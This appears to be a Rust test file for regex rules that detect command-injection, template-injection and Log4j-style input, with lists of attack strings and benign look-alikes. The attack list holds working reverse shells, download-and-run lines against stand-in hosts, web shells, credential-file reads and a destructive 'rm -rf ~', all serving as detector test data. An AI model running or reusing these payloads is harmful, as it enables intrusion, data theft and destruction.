//! What the rules find, what they leave alone, and that none of them is idle.

use super::RULES;
use crate::regex::RegexSet;

/// One row for each shape of an attack.
const ATTACKS: &[&str] = &[
    // A further command.
    "; whoami",
    "build and deploy && whoami",
    "host name | uname -a",
    "x%0awhoami",
    "%7C/usr/bin/whoami%00",
    "127.0.0.1; ls -la /",
    "8.8.8.8|id",
    "example.com && dir c:\\",
    "report.pdf;cat /tmp/key",
    "42 & ipconfig /all",
    "'; ps aux #",
    "\")|cat<../config.yml",
    "10.0.0.1%3Bnetstat%20-an",
    "1\n/bin/ls -l",
    "file.txt||env",
    "a@b.example;nslookup x.evil.example",
    "2 | curl http://evil.example/?x=1",
    "1;wget -q evil.example/a",
    "img.png;ping -c 3 evil.example",
    "|nc -lvp 4444",
    "&&python3 -c 'print(1)'",
    ";echo x3d",
    "v1.2;rm -rf ~",
    "; sudo /sbin/ifconfig",
    "|| type ..\\web.config",
    "%26%26bash -c ls",
    // The output of a command.
    "$(whoami)",
    "report-$(id)",
    "http://example.com/$(hostname)",
    "x`uname -a`",
    "`id`",
    "a$(curl evil.example)",
    "--name=`cat /tmp/key`",
    "\"$(expr 7 + 7)\"",
    // A command that waits.
    "test; sleep 10",
    "my name is $(sleep 5)",
    "x`sleep 3`",
    "a|sleep 5s#",
    "foo & ping -n 21 127.0.0.1 &",
    "any words & timeout /t 9 &",
    // Secrets.
    "John Smith; cat /etc/passwd",
    "hello | head -1 /etc/./shadow",
    "no `;cat /etc/group",
    "a word & type %SystemRoot%\\win.ini",
    "one two; c'a't /et'c'/pas's'wd",
    // White space, names and words that are hidden.
    "cat${IFS}notes",
    "a b;$IFS$9ls",
    "{cat,/tmp/key}",
    "{curl,http://evil.example}",
    "my file /???/c?t x",
    "/bin/cat /e?c/p?sswd",
    "john;w\\ho\\ami",
    "john|w^h^o^a^m^i",
    "john;wh''oami",
    "john && who$@ami",
    "john;'l's",
    "$(rev<<<'imaohw')",
    "$'\\x69\\x64'",
    // Programs from elsewhere.
    "new york; wget http://evil.example/x -O- | sh",
    "curl 192.0.2.7/x.sh|bash",
    "cd /tmp; wget http://192.0.2.7/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7",
    "$(curl -s https://evil.example/x | python3)",
    // Programs that were encoded.
    "echo aWQ= | base64 -d | sh",
    "the user said echo 6964|xxd -r -p|bash",
    "bash<<<$(base64 -d<<<aWQ=)",
    "printf '\\151\\144'|/bin/sh",
    // Shells that call back.
    "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
    "exec 5<>/dev/tcp/evil.example/80",
    "nc -e /bin/sh 192.0.2.1 4444",
    "ncat 192.0.2.1 4444 -c cmd.exe -e cmd",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f",
    "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));[os.dup2(s.fileno(),f)for f in(0,1,2)]'",
    "perl -e 'use Socket;$i=\"192.0.2.1\";socket(S,PF_INET);open(STDIN,\">&S\");'",
    "php -r '$s=fsockopen(\"192.0.2.1\",1);exec(\"sh <&3 >&3 2>&3\");'",
    "socat TCP:192.0.2.1:1 EXEC:sh",
    "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.1',1)",
    // Windows.
    "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8A",
    "powershell.exe IEX(New-Object Net.WebClient).DownloadString('https://evil.example/a')",
    "IEX (iwr http://evil.example/a.ps1)",
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
    "certutil -urlcache -split -f http://evil.example/a.exe a.exe",
    "mshta http://evil.example/a.hta",
    "regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "net user evil P4ss /add",
    "wmic process call create calc.exe",
    "your name & cmd.exe /c set",
    "=cmd /c calc|' '!A0",
    // Shellshock.
    "() { :;}; echo vulnerable",
    "User-Agent: () { _; } >_[$($())] { id; }",
    // Log4j.
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}dns://evil.example}",
    "%24%7Bjndi:ldap://evil.example%7D",
    // Templates.
    "{{7*7}}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "#{7*'7'}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{request|attr('\\x5f\\x5fclass')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{['id']|map('system')|join}}",
    "().__class__.__subclasses__()[40]('/etc/hosts').read()",
    "__import__('os').system('id')",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#rt=@java.lang.Runtime@getRuntime()).exec('id')}",
    "#{''.getClass().forName('javax.script.ScriptEngineManager')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "*{new java.lang.ProcessBuilder('id').start()}",
    "$class.inspect('java.lang.System')",
    "{system('id')}",
    "<%= system('id') %>",
    "#{`id`}",
    "${require('child_process').execSync('id')}",
    // Code of interpreters.
    "<?php system($_GET['c']); ?>",
    "<?= passthru('id') ?>",
    "eval(base64_decode('aWQ='));",
    "';phpinfo();//",
    "1;system('id')",
    "assert($_POST[1])",
    "require('child_process').exec('id')",
    "global.process.mainModule.constructor._load('x')",
    "<!--#exec cmd=\"id\" -->",
    "perl -e 'system(\"id\")'",
];

/// What honest people and their programs say.
const LOOK_ALIKES: &[&str] = &[
    // Prose.
    "rock 'n' roll; cat pictures and more",
    "Go to bed; sleep 8 hours & drink water",
    "ping me later; I'll be around",
    "Tom & Jerry; find them at home",
    "the host; curl of hair | wave",
    "more; less; head or tail",
    "O'Neil's \"sh\" sound | th sound",
    "who am I? whoami!",
    "$5 (id card) & $10 (dir. fee)",
    "I was like: () { shrug }",
    "ich bin müde; schlafe 10 Stunden",
    "le chat & le chien | echo de la montagne",
    "我; 你 | 他 & 她",
    "set; game; match",
    "date night; 7*7 = 49",
    "Type 2 & type 3; set 4",
    "net user growth; add 5%",
    "cats; dogs\nls and birds",
    "Dear John,\nping me when done\nid card needed",
    ";) ;P ;D |o| &c.",
    "log4j was bad: jndi lookups everywhere",
    "${amount} due; see {{name}}",
    "what does whoami do & why?",
    "PowerShell -- I love it (encoded or not)",
    // What developers say.
    "run `ls -la` and then `cat notes.txt`",
    "`cat notes.txt | grep foo` works for me",
    "the `whoami` command prints the user",
    "```sh\ncd /tmp\nls -la | sort\n```",
    "cd /tmp && ls -la | grep x",
    "git add . && git commit -m 'x' && git push",
    "make && make install",
    "cat access.log | sort | uniq -c | head -5",
    "while true; do date; sleep 1; done",
    "docker run --rm -it -u $(id -u):$(id -g) alpine sh",
    "sudo chown -R $(whoami) /usr/local",
    "export PATH=$(pwd)/bin:$PATH",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    "/bin/bash -c \"$(curl -fsSL https://example.com/install.sh)\"",
    "curl -s http://localhost:8080/health | jq .status",
    "ps aux | grep nginx",
    "kill -9 $(pidof node)",
    "echo \"aGk=\" | base64 -d",
    "python -c \"import sys; print(sys.version)\"",
    "perl -pe 's/a/b/' file.txt",
    "powershell -ExecutionPolicy Bypass -File build.ps1",
    "nc -zv example.com 443",
    "run cat /etc/os-release first",
    "is /etc/passwd readable by all?",
    "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
    "OLDIFS=$IFS; IFS=$'\\n'",
    "${FOO:-1} and ${BAR:-default}",
    "${env:HOME}/bin",
    "if (a || b && c | d) { exit(1); }",
    "$(document).ready(function () { $(this).hide(); });",
    "$('#id').on('click', () => {});",
    "function f() { return 1; }; f();",
    "var g = function () {}; g();",
    "self.__class__.__name__ and super().__init__()",
    "os.system(\"ls\") is bad style",
    "const { exec } = require('child_process');",
    "Runtime.getRuntime().exec(\"ls\") hangs",
    "<?php echo $_GET['name']; ?>",
    "<%= user.name %>",
    "{{ item.price * 2 }}",
    "`total: ${a * b}`",
    "{% if user.is_authenticated %}hi{% endif %}",
    "| id | name | date |\n|----|------|------|",
    "| whoami | prints the user |",
    "a | b; c & d: Rust's `|x| x + 1`",
    "match x { A | B => ls(), _ => id() }",
    "import {cat,dog} from './pets'",
    "/^\\/bin\\/(ba)?sh$/",
    "import socket; print(socket.gethostname())",
    "re.exec('x'); pattern.exec(\"y\")",
    "@media (max-width: 7px) { a { b: c; } }",
    // Machine text.
    "first_name;id",
    "name|id",
    "sort=name&id=5&dir=asc",
    "https://example.com/?a=1&host=x&id=7;v=2",
    "https://example.com/a%20b?ls=1&cat=2&sleep=3",
    "text/html;charset=utf-8",
    "Set-Cookie: id=1; Path=/; HttpOnly",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Users\\me;C:\\bin",
    "/usr/bin/env bash",
    "AT&T;B&B",
    "a&amp;b&nbsp;c",
    "550e8400-e29b-41d4-a716-446655440000",
    "aWQ7bHMgLWxh",
    "=SUM(A1:A3)",
    "{\"cmd\":\"ls\",\"args\":[\"-la\"]}",
];

fn set(rules: &[(&str, &str)]) -> RegexSet {
    RegexSet::new(rules.iter().map(|(_, pattern)| *pattern)).unwrap()
}

/// Whether each of `texts` is found, or none of them.
#[track_caller]
fn check(texts: &[&str], found: bool) {
    let rules = set(RULES);
    let name = |text: &str| rules.first_match(text).map(|index| RULES[index].0);
    let wrong: Vec<_> = texts.iter().map(|text| (text, name(text))).filter(|row| row.1.is_some() != found).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_found() {
    check(ATTACKS, true);
}

#[test]
fn look_alikes_are_left_alone() {
    check(LOOK_ALIKES, false);
}

#[test]
fn every_rule_finds_what_the_others_miss() {
    for (index, (name, _)) in RULES.iter().enumerate() {
        let others = set(&[&RULES[..index], &RULES[index + 1..]].concat());
        assert!(ATTACKS.iter().any(|text| others.first_match(text).is_none()), "{name} finds nothing by itself");
    }
}
